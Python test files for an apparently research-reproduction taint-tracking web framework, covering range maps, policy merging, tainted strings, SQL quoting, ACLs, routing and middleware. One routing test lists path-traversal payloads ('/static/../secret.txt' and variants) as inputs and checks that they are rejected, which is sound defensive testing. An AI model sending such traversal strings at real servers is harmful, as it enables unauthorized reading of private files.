"""Property tests for the taint hot path.

Three contracts introduced by the lazy-rope / hash-consing / merge-memo
rework, each checked against a brute-force oracle:

* flattening a lazy rope of concat/slice/repeat nodes yields exactly what
  eager construction would, position by position and range by range;
* interned ``PolicySet`` equality is identity (and every rehydration path —
  copy, deepcopy, pickle — lands on the interned instance);
* the memoized merge returns the same verdicts as the uncached protocol,
  including ``MergeError`` vetoes and ``"intersect"``-strategy drops.
"""

import copy
import pickle

import pytest
from hypothesis import given, strategies as st

from repro.core.exceptions import MergeError
from repro.core.policy import Policy
from repro.core.policyset import PolicySet
from repro.policies import AuthenticData, SQLSanitized, UntrustedData
from repro.tracking.merge import (
    _merge_uncached,
    clear_merge_cache,
    merge_cache_info,
    merge_policysets,
)
from repro.tracking.ranges import PolicyRange, RangeMap

U = UntrustedData("p")
S = SQLSanitized()
A = AuthenticData("ca")

policies = st.sampled_from([U, S, A])


class NoMixPolicy(Policy):
    merge_strategy = "reject"


@st.composite
def rangemaps(draw, max_length=12):
    length = draw(st.integers(0, max_length))
    n_ranges = draw(st.integers(0, 4))
    ranges = []
    for _ in range(n_ranges):
        if length == 0:
            break
        start = draw(st.integers(0, length - 1))
        stop = draw(st.integers(start + 1, length))
        ranges.append(PolicyRange(start, stop, PolicySet.of(draw(policies))))
    return RangeMap(length, ranges)


def per_position(rmap):
    return [rmap.policies_at(index) for index in range(rmap.length)]


rope_ops = st.lists(
    st.one_of(
        st.tuples(st.just("cat"), rangemaps()),
        st.tuples(st.just("slice"), st.integers(0, 30), st.integers(0, 30)),
        st.tuples(st.just("repeat"), st.integers(0, 3)),
    ),
    max_size=6,
)


class TestLazyRopeParity:
    @given(base=rangemaps(), sequence=rope_ops)
    def test_flatten_matches_eager_oracle(self, base, sequence):
        lazy = base
        oracle = per_position(base)
        for op in sequence:
            if op[0] == "cat":
                lazy = lazy.concat(op[1])
                oracle = oracle + per_position(op[1])
            elif op[0] == "slice":
                start = min(op[1], lazy.length)
                stop = max(start, min(op[2], lazy.length))
                lazy = lazy.slice(start, stop)
                oracle = oracle[start:stop]
            else:
                lazy = lazy.repeat(op[1])
                oracle = oracle * op[1]
        assert per_position(lazy) == oracle

    @given(base=rangemaps(), sequence=rope_ops)
    def test_flattened_form_is_eagerly_normalized(self, base, sequence):
        lazy = base
        for op in sequence:
            if op[0] == "cat":
                lazy = lazy.concat(op[1])
            elif op[0] == "slice":
                start = min(op[1], lazy.length)
                stop = max(start, min(op[2], lazy.length))
                lazy = lazy.slice(start, stop)
            else:
                lazy = lazy.repeat(op[1])
        flattened = lazy.ranges
        # The flattened tuple must be exactly what eager construction
        # produces from the same per-position content: re-normalizing it is
        # the identity, so serialization round-trips are byte-identical.
        eager = RangeMap(
            lazy.length,
            [
                PolicyRange(index, index + 1, pset)
                for index, pset in enumerate(per_position(lazy))
                if pset
            ],
        )
        assert flattened == eager.ranges
        assert RangeMap(lazy.length, flattened).ranges == flattened
        assert lazy.to_segments() == eager.to_segments()


class TestInterning:
    @given(left=st.lists(policies, max_size=3), right=st.lists(policies, max_size=3))
    def test_equality_iff_identity(self, left, right):
        first = PolicySet(left)
        second = PolicySet(right)
        assert (first == second) == (first is second)

    @given(members=st.lists(policies, max_size=3))
    def test_rehydration_lands_on_the_interned_instance(self, members):
        canonical = PolicySet(members)
        assert PolicySet(list(reversed(members))) is canonical
        assert copy.copy(canonical) is canonical
        assert copy.deepcopy(canonical) is canonical
        assert pickle.loads(pickle.dumps(canonical)) is canonical


class TestMergeMemoParity:
    @given(left=st.lists(policies, max_size=3), right=st.lists(policies, max_size=3))
    def test_memoized_equals_uncached(self, left, right):
        lset = PolicySet(left)
        rset = PolicySet(right)
        expected = _merge_uncached(lset, rset)
        clear_merge_cache()
        first = merge_policysets(lset, rset)
        second = merge_policysets(lset, rset)
        assert first == expected
        assert second is first

    @given(members=st.lists(policies, max_size=3))
    def test_fast_paths_match_protocol(self, members):
        pset = PolicySet(members)
        empty = PolicySet.empty()
        # Same-set and empty-operand shortcuts must not change "intersect"
        # semantics (AuthenticData drops when the other side lacks it).
        assert merge_policysets(pset, empty) == _merge_uncached(pset, empty)
        assert merge_policysets(empty, pset) == _merge_uncached(empty, pset)
        assert merge_policysets(pset, pset) == _merge_uncached(pset, pset)

    @given(others=st.lists(policies, max_size=2))
    def test_reject_vetoes_and_is_never_cached(self, others):
        nomix = PolicySet.of(NoMixPolicy())
        other = PolicySet(others)
        clear_merge_cache()
        for _ in range(2):
            with pytest.raises(MergeError):
                merge_policysets(nomix, other)
        assert merge_cache_info()["size"] == 0
