"""Property-based tests for RangeMap algebra and the merge protocol."""

from hypothesis import given, strategies as st

from repro.core.policyset import PolicySet
from repro.policies import AuthenticData, SQLSanitized, UntrustedData
from repro.tracking.merge import merge_many, merge_policysets
from repro.tracking.ranges import PolicyRange, RangeMap

U = UntrustedData("p")
S = SQLSanitized()
A = AuthenticData("ca")

policies = st.sampled_from([U, S, A])


@st.composite
def rangemaps(draw, max_length=30):
    length = draw(st.integers(0, max_length))
    n_ranges = draw(st.integers(0, 4))
    ranges = []
    for _ in range(n_ranges):
        if length == 0:
            break
        start = draw(st.integers(0, length - 1))
        stop = draw(st.integers(start + 1, length))
        ranges.append(PolicyRange(start, stop,
                                  PolicySet.of(draw(policies))))
    return RangeMap(length, ranges)


class TestRangeMapAlgebra:
    @given(left=rangemaps(), right=rangemaps())
    def test_concat_length_and_positions(self, left, right):
        combined = left.concat(right)
        assert combined.length == left.length + right.length
        for index in range(left.length):
            assert combined.policies_at(index) == left.policies_at(index)
        for index in range(right.length):
            assert combined.policies_at(left.length + index) == \
                right.policies_at(index)

    @given(rmap=rangemaps(), start=st.integers(-40, 40),
           stop=st.integers(-40, 40))
    def test_slice_positions(self, rmap, start, stop):
        sliced = rmap.slice(*slice(start, stop).indices(rmap.length)[:2])
        real_start, real_stop, _ = slice(start, stop).indices(rmap.length)
        assert sliced.length == max(0, real_stop - real_start)
        for index in range(sliced.length):
            assert sliced.policies_at(index) == \
                rmap.policies_at(real_start + index)

    @given(rmap=rangemaps())
    def test_normalization_is_idempotent(self, rmap):
        again = RangeMap(rmap.length, rmap.ranges)
        assert again == rmap

    @given(rmap=rangemaps())
    def test_ranges_sorted_disjoint_nonempty(self, rmap):
        previous_stop = 0
        for rng in rmap.ranges:
            assert rng.start >= previous_stop
            assert rng.stop > rng.start
            assert rng.policies
            previous_stop = rng.stop
            assert rng.stop <= rmap.length

    @given(rmap=rangemaps())
    def test_all_policies_is_union_of_positions(self, rmap):
        union = PolicySet.empty()
        for index in range(rmap.length):
            union = union.union(rmap.policies_at(index))
        assert union == rmap.all_policies()

    @given(rmap=rangemaps(), count=st.integers(0, 4))
    def test_repeat_matches_explicit_concat(self, rmap, count):
        repeated = rmap.repeat(count)
        explicit = RangeMap(0)
        for _ in range(count):
            explicit = explicit.concat(rmap)
        assert repeated == explicit

    @given(rmap=rangemaps())
    def test_segments_roundtrip(self, rmap):
        assert RangeMap.from_segments(rmap.length,
                                      rmap.to_segments()) == rmap


class TestMergeProperties:
    @given(left=st.lists(policies, max_size=3),
           right=st.lists(policies, max_size=3))
    def test_merge_is_commutative(self, left, right):
        assert merge_policysets(PolicySet(left), PolicySet(right)) == \
            merge_policysets(PolicySet(right), PolicySet(left))

    @given(operands=st.lists(st.lists(policies, max_size=2), max_size=4))
    def test_union_policies_always_survive(self, operands):
        merged = merge_many([PolicySet(ops) for ops in operands])
        if any(U in ops for ops in operands):
            assert merged.has_type(UntrustedData)

    @given(left=st.lists(policies, max_size=3))
    def test_merge_with_empty_drops_intersection_policies(self, left):
        merged = merge_policysets(PolicySet(left), PolicySet.empty())
        assert not merged.has_type(AuthenticData)

    @given(left=st.lists(policies, min_size=1, max_size=3),
           right=st.lists(policies, min_size=1, max_size=3))
    def test_authentic_survives_only_if_on_both_sides(self, left, right):
        merged = merge_policysets(PolicySet(left), PolicySet(right))
        both = (A in left) and (A in right)
        assert merged.has_type(AuthenticData) == both
