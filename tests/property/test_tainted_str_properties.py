"""Property-based tests for the character-level tracking invariants.

The central invariants of Section 3.4:

1. tainted strings always behave exactly like the underlying plain string
   for every string operation (policies never change program results);
2. concatenation and slicing map policies to exactly the characters they
   came from;
3. a character marked with a policy keeps that policy through any chain of
   tracked operations that keeps the character in the result.
"""

import string

from hypothesis import given, settings, strategies as st

from repro.policies import HTMLSanitized, SQLSanitized, UntrustedData
from repro.tracking.tainted_str import TaintedStr, taint_str

U = UntrustedData("prop")
S = SQLSanitized()

text = st.text(alphabet=string.printable, max_size=40)
small_text = st.text(alphabet=string.ascii_letters + " ,._-", max_size=20)


@st.composite
def tainted_pieces(draw):
    """A TaintedStr assembled from alternating plain and tainted pieces,
    together with the expected per-character policy flags."""
    pieces = draw(st.lists(st.tuples(small_text, st.booleans()), min_size=1,
                           max_size=5))
    value = TaintedStr("")
    flags = []
    for piece, is_tainted in pieces:
        value = value + (taint_str(piece, U) if is_tainted
                         else TaintedStr(piece))
        flags.extend([is_tainted] * len(piece))
    return value, flags


class TestBehavesLikeStr:
    @given(left=text, right=text)
    def test_concat_matches_plain(self, left, right):
        assert taint_str(left, U) + taint_str(right, S) == left + right

    @given(value=text, start=st.integers(-50, 50), stop=st.integers(-50, 50),
           step=st.integers(-5, 5).filter(lambda s: s != 0))
    def test_slicing_matches_plain(self, value, start, stop, step):
        assert taint_str(value, U)[start:stop:step] == value[start:stop:step]

    @given(value=text)
    def test_upper_lower_strip_match_plain(self, value):
        tainted = taint_str(value, U)
        assert tainted.upper() == value.upper()
        assert tainted.lower() == value.lower()
        assert tainted.strip() == value.strip()
        assert tainted.title() == value.title()

    @given(value=text, old=st.text(alphabet="abc ", min_size=1, max_size=3),
           new=st.text(alphabet="xyz", max_size=3))
    def test_replace_matches_plain(self, value, old, new):
        assert taint_str(value, U).replace(old, new) == value.replace(old, new)

    @given(value=text, sep=st.sampled_from([",", " ", "ab", None]))
    def test_split_matches_plain(self, value, sep):
        assert [str(p) for p in taint_str(value, U).split(sep)] == \
            value.split(sep)

    @given(items=st.lists(small_text, max_size=6), sep=small_text)
    def test_join_matches_plain(self, items, sep):
        tainted_items = [taint_str(i, U) for i in items]
        assert TaintedStr(sep).join(tainted_items) == sep.join(items)

    @given(value=text, width=st.integers(0, 60))
    def test_justify_matches_plain(self, value, width):
        tainted = taint_str(value, U)
        assert tainted.ljust(width) == value.ljust(width)
        assert tainted.rjust(width) == value.rjust(width)
        assert tainted.center(width) == value.center(width)
        assert tainted.zfill(width) == value.zfill(width)

    @given(value=text)
    def test_hash_and_equality_match_plain(self, value):
        assert hash(taint_str(value, U)) == hash(value)
        assert taint_str(value, U) == value


class TestPolicyLocality:
    @given(data=tainted_pieces())
    def test_every_char_keeps_its_own_policy(self, data):
        value, flags = data
        for index, flagged in enumerate(flags):
            has = value.policies_at(index).has_type(UntrustedData)
            assert has == flagged

    @given(data=tainted_pieces(), start=st.integers(-30, 30),
           stop=st.integers(-30, 30))
    def test_slicing_preserves_per_char_policies(self, data, start, stop):
        value, flags = data
        sliced = value[start:stop]
        expected = flags[slice(start, stop)]
        for index, flagged in enumerate(expected):
            assert sliced.policies_at(index).has_type(UntrustedData) == flagged

    @given(data=tainted_pieces())
    def test_union_policy_set_matches_flags(self, data):
        value, flags = data
        assert value.policies().has_type(UntrustedData) == any(flags)

    @given(left=small_text, right=small_text)
    def test_concat_does_not_leak_policy_across_operands(self, left, right):
        combined = taint_str(left, U) + taint_str(right, S)
        for index in range(len(left)):
            assert not combined.policies_at(index).has_type(SQLSanitized)
        for index in range(len(left), len(left) + len(right)):
            assert not combined.policies_at(index).has_type(UntrustedData)

    @given(value=small_text)
    def test_adding_policy_is_monotonic(self, value):
        tainted = taint_str(value, U).with_policy(S).with_policy(
            HTMLSanitized())
        if value:
            assert len(tainted.policies()) == 3

    @given(data=tainted_pieces())
    @settings(max_examples=50)
    def test_interpolation_keeps_template_untainted(self, data):
        value, flags = data
        result = TaintedStr("[{x}]").format(x=value)
        assert not result.policies_at(0)
        assert not result.policies_at(len(result) - 1)
        for index, flagged in enumerate(flags):
            assert result.policies_at(index + 1).has_type(
                UntrustedData) == flagged


class TestSerializationProperties:
    @given(data=tainted_pieces())
    @settings(max_examples=50)
    def test_rangemap_roundtrips_through_json(self, data):
        from repro.core.serialization import dumps_rangemap, loads_rangemap
        value, _ = data
        assert loads_rangemap(dumps_rangemap(value.rangemap),
                              len(value)) == value.rangemap

    @given(data=tainted_pieces())
    @settings(max_examples=30)
    def test_file_roundtrip_preserves_policy_positions(self, data):
        from repro.fs.resinfs import ResinFS
        value, flags = data
        fs = ResinFS()
        fs.write_text("/f", value)
        restored = fs.read_text("/f")
        assert restored == str(value)
        for index, flagged in enumerate(flags):
            assert restored.policies_at(index).has_type(
                UntrustedData) == flagged
