"""Property-based tests for the SQL substrate and the ACL structure."""

import string

from hypothesis import given, settings, strategies as st

from repro.channels.sqlchan import Database
from repro.core.api import policy_get
from repro.policies import ACL, UntrustedData
from repro.sql.engine import Engine
from repro.sql.parser import parse
from repro.tracking.propagation import concat
from repro.tracking.tainted_str import taint_str
from repro.web.sanitize import sql_quote

U = UntrustedData("prop")

from repro.sql.tokenizer import KEYWORDS

identifiers = st.text(alphabet=string.ascii_lowercase, min_size=1,
                      max_size=8).filter(lambda s: s not in KEYWORDS)
cell_values = st.text(alphabet=string.ascii_letters + " '%_-", max_size=20)


class TestSQLRoundTrips:
    @given(value=cell_values)
    @settings(max_examples=60)
    def test_quoted_literal_roundtrips_through_parser(self, value):
        stmt = parse(concat("SELECT * FROM t WHERE c = '", sql_quote(value),
                            "'"))
        literal = stmt.where.right
        assert str(literal.value) == value

    @given(value=cell_values)
    @settings(max_examples=40)
    def test_quoted_insert_select_roundtrip(self, value):
        db = Database(Engine())
        db.execute_unchecked("CREATE TABLE t (v TEXT)")
        db.query(concat("INSERT INTO t (v) VALUES ('", sql_quote(value),
                        "')"))
        stored = db.query("SELECT v FROM t").rows[0]["v"]
        assert str(stored) == value

    @given(value=cell_values)
    @settings(max_examples=40)
    def test_tainted_cell_policy_survives_roundtrip(self, value):
        db = Database(Engine())
        db.execute_unchecked("CREATE TABLE t (v TEXT)")
        db.query(concat("INSERT INTO t (v) VALUES ('",
                        sql_quote(taint_str(value, U)), "')"))
        stored = db.query("SELECT v FROM t").rows[0]["v"]
        if value:
            assert policy_get(stored).has_type(UntrustedData)

    @given(values=st.lists(st.integers(-1000, 1000), min_size=1, max_size=10))
    @settings(max_examples=40)
    def test_where_filters_match_python_semantics(self, values):
        engine = Engine()
        engine.run("CREATE TABLE n (v INTEGER)")
        for value in values:
            engine.run(f"INSERT INTO n (v) VALUES ({value})")
        result = engine.run("SELECT v FROM n WHERE v >= 0")
        assert sorted(r["v"] for r in result) == sorted(
            v for v in values if v >= 0)
        count = engine.run("SELECT COUNT(*) AS c FROM n WHERE v < 0")
        assert count.scalar() == sum(1 for v in values if v < 0)

    @given(name=identifiers, columns=st.lists(identifiers, min_size=1,
                                              max_size=5, unique=True))
    @settings(max_examples=40)
    def test_create_insert_select_star(self, name, columns):
        engine = Engine()
        engine.run(f"CREATE TABLE {name} ("
                       + ", ".join(f"{c} TEXT" for c in columns) + ")")
        engine.run(
            f"INSERT INTO {name} ({', '.join(columns)}) VALUES ("
            + ", ".join(f"'{c}-value'" for c in columns) + ")")
        result = engine.run(f"SELECT * FROM {name}")
        assert result.columns == columns
        assert [str(v) for v in result.rows[0].values_list()] == \
            [f"{c}-value" for c in columns]


class TestACLProperties:
    rights = st.sampled_from(["read", "write", "admin"])
    users = st.text(alphabet=string.ascii_lowercase, min_size=1, max_size=6)

    @given(user=users, right=rights)
    def test_grant_then_may(self, user, right):
        assert ACL({}).grant(user, right).may(user, right)

    @given(user=users, right=rights)
    def test_revoke_removes_right(self, user, right):
        acl = ACL({}).grant(user, right).revoke(user, right)
        assert not acl.may(user, right)

    @given(entries=st.dictionaries(users, st.sets(rights, max_size=3),
                                   max_size=4))
    def test_dict_roundtrip(self, entries):
        acl = ACL(entries)
        assert ACL.from_dict(acl.to_dict()) == acl

    @given(user=users, right=rights)
    def test_all_wildcard_grants_everyone(self, user, right):
        assert ACL({"All": (right,)}).may(user, right)
        assert ACL({"All": (right,)}).may(None, right)

    @given(user=users, right=rights)
    def test_known_excludes_anonymous(self, user, right):
        acl = ACL({"Known": (right,)})
        assert acl.may(user, right)
        assert not acl.may(None, right)
