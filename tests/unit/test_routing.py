"""Unit tests for the routing subsystem: patterns, converters, 404-vs-405,
the middleware pipeline, the Response object and the deprecation shims."""

import pytest

from repro.core.api import policy_add, policy_get
from repro.core.exceptions import DisclosureViolation, HTTPError
from repro.policies import PasswordPolicy, UntrustedData
from repro.web import (CatchViolationsMiddleware, MethodNotAllowed,
                       Middleware, Request, Response, Router,
                       SessionMiddleware, UntrustedInputMiddleware,
                       WebApplication)
from repro.web.routing import Route


class TestRoutePatterns:
    def test_literal_route_matches_exactly(self):
        route = Route("/page", lambda req, resp: None)
        assert route.match_path("/page") == {}
        assert route.match_path("/page/") is None
        assert route.match_path("/pages") is None

    def test_default_converter_is_str_and_stops_at_slash(self):
        route = Route("/paper/<pid>", lambda req, resp, pid: None)
        assert route.match_path("/paper/42") == {"pid": "42"}
        assert route.match_path("/paper/a/b") is None

    def test_int_converter_types_the_parameter(self):
        route = Route("/paper/<int:pid>", lambda req, resp, pid: None)
        assert route.match_path("/paper/42") == {"pid": 42}

    def test_int_converter_failure_means_no_match(self):
        route = Route("/paper/<int:pid>", lambda req, resp, pid: None)
        assert route.match_path("/paper/abc") is None
        assert route.match_path("/paper/-3") is None

    def test_float_converter(self):
        route = Route("/score/<float:value>", lambda *a, **k: None)
        assert route.match_path("/score/2.5") == {"value": 2.5}
        assert route.match_path("/score/xyz") is None

    def test_path_converter_spans_slashes(self):
        route = Route("/wiki/<path:name>", lambda req, resp, name: None)
        assert route.match_path("/wiki/Front/Page") == {"name": "Front/Page"}

    def test_multiple_parameters(self):
        route = Route("/f/<int:fid>/m/<int:mid>", lambda *a, **k: None)
        assert route.match_path("/f/1/m/2") == {"fid": 1, "mid": 2}

    def test_unknown_converter_rejected(self):
        with pytest.raises(ValueError):
            Route("/x/<uuid:z>", lambda *a, **k: None)

    def test_duplicate_parameter_rejected(self):
        with pytest.raises(ValueError):
            Route("/x/<a>/<a>", lambda *a, **k: None)

    def test_methods_normalized_and_head_implied_by_get(self):
        route = Route("/x", lambda *a, **k: None, methods=["get", "post"])
        assert route.allows("GET") and route.allows("POST")
        assert route.allows("HEAD")
        assert not route.allows("DELETE")

    def test_methods_none_means_any(self):
        route = Route("/x", lambda *a, **k: None, methods=None)
        assert route.allows("PATCH")


class TestRouter:
    def test_first_match_wins_in_registration_order(self):
        router = Router()
        router.add("/wiki/<path:name>/raw", lambda *a, **k: None, name="raw")
        router.add("/wiki/<path:name>", lambda *a, **k: None, name="view")
        assert router.match("/wiki/A/B/raw").route.name == "raw"
        assert router.match("/wiki/A/B").route.name == "view"

    def test_no_path_match_returns_none(self):
        router = Router()
        router.add("/a", lambda *a, **k: None)
        assert router.match("/b") is None

    def test_method_mismatch_raises_405_with_allowed_set(self):
        router = Router()
        router.add("/a", lambda *a, **k: None, methods=["GET"])
        router.add("/a", lambda *a, **k: None, methods=["POST"])
        with pytest.raises(MethodNotAllowed) as excinfo:
            router.match("/a", "DELETE")
        assert excinfo.value.status == 405
        assert excinfo.value.allowed == ("GET", "HEAD", "POST")

    def test_same_pattern_split_by_method(self):
        router = Router()
        router.add("/page", lambda *a, **k: None, methods=["GET"], name="view")
        router.add("/page", lambda *a, **k: None, methods=["POST"], name="edit")
        assert router.match("/page", "GET").route.name == "view"
        assert router.match("/page", "POST").route.name == "edit"

    def test_literal_lookup(self):
        router = Router()

        def handler(req, resp):
            return None

        router.add("/a/<b>", handler)
        assert router.literal("/a/<b>").handler is handler
        assert router.literal("/nope") is None


class TestDispatch:
    def test_route_params_passed_to_handler(self, env):
        app = WebApplication(env)

        @app.route("/paper/<int:pid>", methods=["GET", "POST"])
        def paper(request, response, pid):
            response.write(f"{request.method} paper {pid} ({type(pid).__name__})")

        assert app.handle(Request("/paper/7")).body() == "GET paper 7 (int)"
        assert (app.handle(Request("/paper/7", method="POST")).body()
                == "POST paper 7 (int)")

    def test_converter_failure_is_404_not_handler_error(self, env):
        app = WebApplication(env)

        @app.route("/paper/<int:pid>")
        def paper(request, response, pid):
            raise AssertionError("handler must not run")

        assert app.handle(Request("/paper/abc")).status == 404

    def test_405_vs_404(self, env):
        app = WebApplication(env)

        @app.route("/page", methods=["GET"])
        def page(request, response):
            response.write("ok")

        missing = app.handle(Request("/nothing"))
        wrong_method = app.handle(Request("/page", method="DELETE"))
        assert missing.status == 404
        assert wrong_method.status == 405
        assert ("Allow", "GET, HEAD") in wrong_method.headers

    def test_handler_string_return_is_written_through_the_boundary(self, env):
        app = WebApplication(env)
        secret = policy_add("pw", PasswordPolicy("owner@example.org"))

        @app.route("/leak")
        def leak(request, response):
            return "dump: " + secret

        with pytest.raises(DisclosureViolation):
            app.handle(Request("/leak", user="mallory"))

    def test_handler_response_return_applied(self, env):
        app = WebApplication(env)

        @app.route("/made")
        def made(request, response):
            return Response("created", status=201).header("X-Kind", "demo")

        result = app.handle(Request("/made"))
        assert result.status == 201
        assert result.body() == "created"
        assert ("X-Kind", "demo") in result.headers

    def test_response_redirect(self, env):
        app = WebApplication(env)

        @app.route("/old")
        def old(request, response):
            return Response.redirect("/new")

        result = app.handle(Request("/old"))
        assert result.status == 302
        assert ("Location", "/new") in result.headers

    def test_request_context_records_route(self, env):
        from repro.core.request_context import current_request
        app = WebApplication(env)
        seen = {}

        @app.route("/paper/<int:pid>", name="paper-view")
        def paper(request, response, pid):
            rctx = current_request()
            seen["route"] = rctx.route
            seen["params"] = dict(rctx.route_params)

        app.handle(Request("/paper/3"))
        assert seen == {"route": "paper-view", "params": {"pid": 3}}


class TestMiddleware:
    def test_request_phase_order_and_response_phase_reversed(self, env):
        app = WebApplication(env)
        order = []

        class Recorder(Middleware):
            def __init__(self, tag):
                self.tag = tag

            def process_request(self, request, response):
                order.append(f"req-{self.tag}")

            def process_response(self, request, response):
                order.append(f"resp-{self.tag}")

        app.middleware(Recorder("a"))
        app.middleware(Recorder("b"))

        @app.route("/x")
        def x(request, response):
            order.append("handler")

        app.handle(Request("/x"))
        assert order == ["req-a", "req-b", "handler", "resp-b", "resp-a"]

    def test_short_circuit_skips_later_stages_and_handler(self, env):
        app = WebApplication(env)
        order = []

        @app.middleware
        def first(request, response):
            order.append("first")

        @app.middleware
        def gate(request, response):
            order.append("gate")
            return Response("denied", status=403)

        @app.middleware
        def never(request, response):
            order.append("never")

        @app.route("/x")
        def x(request, response):
            order.append("handler")

        result = app.handle(Request("/x"))
        assert result.status == 403
        assert result.body() == "denied"
        assert order == ["first", "gate"]

    def test_response_phase_runs_only_for_started_middlewares(self, env):
        app = WebApplication(env)
        order = []

        class Tail(Middleware):
            def process_response(self, request, response):
                order.append("tail-resp")

        @app.middleware
        def gate(request, response):
            return True  # short-circuit: response already complete

        app.middleware(Tail())

        @app.route("/x")
        def x(request, response):
            order.append("handler")

        app.handle(Request("/x"))
        assert order == []  # Tail never started, handler skipped

    def test_function_middleware_single_argument_form(self, env):
        app = WebApplication(env)
        seen = []

        @app.middleware
        def single(request):
            seen.append(request.path)

        @app.route("/x")
        def x(request, response):
            response.write("ok")

        app.handle(Request("/x"))
        assert seen == ["/x"]

    def test_untrusted_input_middleware_marks_params(self, env):
        app = WebApplication(env)
        app.middleware(UntrustedInputMiddleware())

        @app.route("/echo")
        def echo(request, response):
            assert policy_get(request.params["q"]).has_type(UntrustedData)
            response.write("ok")

        assert app.handle(Request("/echo", params={"q": "x"})).body() == "ok"

    def test_session_middleware_resolves_user(self, env):
        app = WebApplication(env)
        app.middleware(SessionMiddleware())
        session = env.sessions.create(user="alice")

        @app.route("/whoami")
        def whoami(request, response):
            sid = request.session.sid if request.session else "-"
            response.write(f"{request.user} sid={sid}")

        body = app.handle(
            Request("/whoami", cookies={"sid": session.sid})).body()
        assert body == f"alice sid={session.sid}"
        # no cookie: no session, request stays anonymous
        anonymous = app.handle(Request("/whoami", cookies={}))
        assert anonymous.body() == "None sid=-"

    def test_session_user_reaches_policy_checks(self, env):
        """A middleware-resolved principal must be the one policies see."""
        app = WebApplication(env)
        app.middleware(SessionMiddleware())
        secret = policy_add("pw", PasswordPolicy("owner@example.org",
                                                 allow_chair=False))

        @app.route("/dump")
        def dump(request, response):
            response.write(secret)

        sid = env.sessions.create(user="mallory").sid
        with pytest.raises(DisclosureViolation):
            app.handle(Request("/dump", cookies={"sid": sid}))

    def test_catch_violations_middleware_maps_to_403(self, env):
        app = WebApplication(env)
        app.middleware(CatchViolationsMiddleware())
        secret = policy_add("pw", PasswordPolicy("owner@example.org"))

        @app.route("/leak")
        def leak(request, response):
            response.write(secret)

        result = app.handle(Request("/leak", user="mallory"))
        assert result.status == 403
        assert "Forbidden" in result.body()

    def test_exception_hook_not_consulted_for_http_errors_mapping(self, env):
        app = WebApplication(env)
        app.middleware(CatchViolationsMiddleware())

        @app.route("/bad")
        def bad(request, response):
            raise HTTPError(400, "nope")

        assert app.handle(Request("/bad")).status == 400


class TestDeprecatedSurface:
    def test_routes_dict_assignment_warns_and_registers(self, env):
        app = WebApplication(env)
        with pytest.warns(DeprecationWarning):
            app.routes["/legacy"] = lambda req, resp: resp.write("old")
        # legacy registrations serve any method, like the flat dict did
        assert app.handle(Request("/legacy", method="PUT")).body() == "old"
        with pytest.warns(DeprecationWarning):
            assert app.routes.get("/legacy") is not None
        with pytest.warns(DeprecationWarning):
            assert "/legacy" in app.routes

    def test_wholesale_reassignment_of_the_old_attributes(self, env):
        """`app.routes = {...}` and `app.before_request = [...]` were plain
        attribute writes before the redesign; they keep working (warning per
        entry) instead of raising AttributeError."""
        from repro.security.assertions import mark_request_untrusted
        app = WebApplication(env)
        with pytest.warns(DeprecationWarning):
            app.routes = {"/old": lambda req, resp: resp.write("old style")}
        with pytest.warns(DeprecationWarning):
            app.before_request = [mark_request_untrusted]
        assert app.handle(Request("/old", method="POST")).body() == "old style"
        assert len(app.before_request) == 1

    def test_before_request_append_warns_and_becomes_middleware(self, env):
        from repro.security.assertions import mark_request_untrusted
        app = WebApplication(env)
        with pytest.warns(DeprecationWarning):
            app.before_request.append(mark_request_untrusted)
        assert len(app.before_request) == 1

        @app.route("/echo")
        def echo(request, response):
            assert policy_get(request.params["q"]).has_type(UntrustedData)
            response.write("ok")

        assert app.handle(Request("/echo", params={"q": "x"})).body() == "ok"

    def test_catch_violations_flag_warns_and_toggles_middleware(self, env):
        app = WebApplication(env)
        assert app.catch_violations is False
        with pytest.warns(DeprecationWarning):
            app.catch_violations = True
        assert app.catch_violations is True
        secret = policy_add("pw", PasswordPolicy("owner@example.org"))

        @app.route("/leak")
        def leak(request, response):
            response.write(secret)

        assert app.handle(Request("/leak", user="mallory")).status == 403
        with pytest.warns(DeprecationWarning):
            app.catch_violations = False
        assert app.catch_violations is False


class TestStaticTraversal:
    def test_crafted_dotdot_url_cannot_escape_the_mount(self, env):
        env.fs.mkdir("/www/docroot", parents=True)
        env.fs.write_text("/www/docroot/page.html", "public")
        env.fs.write_text("/www/secret.txt", "SECRET")
        app = WebApplication(env)
        app.add_static_mount("/static", "/www/docroot")
        assert app.handle(Request("/static/page.html")).body() == "public"
        for payload in ("/static/../secret.txt",
                        "/static/a/../../secret.txt",
                        "/static/....//../secret.txt"):
            response = app.handle(Request(payload))
            assert response.status == 404, payload
            assert "SECRET" not in response.body()

    def test_inside_mount_dotdot_still_serves(self, env):
        env.fs.mkdir("/www/docroot/sub", parents=True)
        env.fs.write_text("/www/docroot/page.html", "public")
        app = WebApplication(env)
        app.add_static_mount("/static", "/www/docroot")
        assert app.handle(
            Request("/static/sub/../page.html")).body() == "public"


class TestResinFacade:
    def test_resin_app_builds_bound_application(self, resin):
        app = resin.app("demo")
        assert isinstance(app, WebApplication)
        assert app.env is resin.env
        assert app.name == "demo"


class TestScopedMiddleware:
    def test_covers_subtree_boundaries_exactly(self):
        from repro.web import ScopedMiddleware
        scoped = ScopedMiddleware("/admin", lambda request, response: None)
        assert scoped.covers("/admin")
        assert scoped.covers("/admin/panel")
        assert scoped.covers("/admin/a/b")
        assert not scoped.covers("/administrator")
        assert not scoped.covers("/public")
        assert not scoped.covers("/")

    def test_prefix_is_normalized(self):
        from repro.web import ScopedMiddleware
        scoped = ScopedMiddleware("admin/", lambda request, response: None)
        assert scoped.prefix == "/admin"

    def test_root_prefix_is_rejected(self):
        from repro.web import ScopedMiddleware
        with pytest.raises(ValueError):
            ScopedMiddleware("/", lambda request, response: None)

    def test_non_callable_is_rejected(self):
        from repro.web import ScopedMiddleware
        with pytest.raises(TypeError):
            ScopedMiddleware("/admin", 42)

    def test_all_three_phases_respect_the_scope(self, env):
        from repro.web import ScopedMiddleware
        app = WebApplication(env)
        events = []

        class Recorder(Middleware):
            def process_request(self, request, response):
                events.append(("req", request.path))

            def process_response(self, request, response):
                events.append(("resp", request.path))

            def process_exception(self, request, response, exc):
                events.append(("exc", request.path))

        app.middleware(ScopedMiddleware("/admin", Recorder()))

        @app.route("/admin/panel")
        def panel(request, response):
            response.write("panel")

        @app.route("/public")
        def public(request, response):
            response.write("public")

        app.handle(Request("/public"))
        assert events == []
        app.handle(Request("/admin/panel"))
        assert events == [("req", "/admin/panel"), ("resp", "/admin/panel")]

    def test_app_middleware_prefix_keyword_builds_a_scope(self, env):
        app = WebApplication(env)
        seen = []

        @app.middleware(prefix="/api")
        def tag(request, response):
            seen.append(request.path)

        @app.route("/api/v1")
        def v1(request, response):
            response.write("v1")

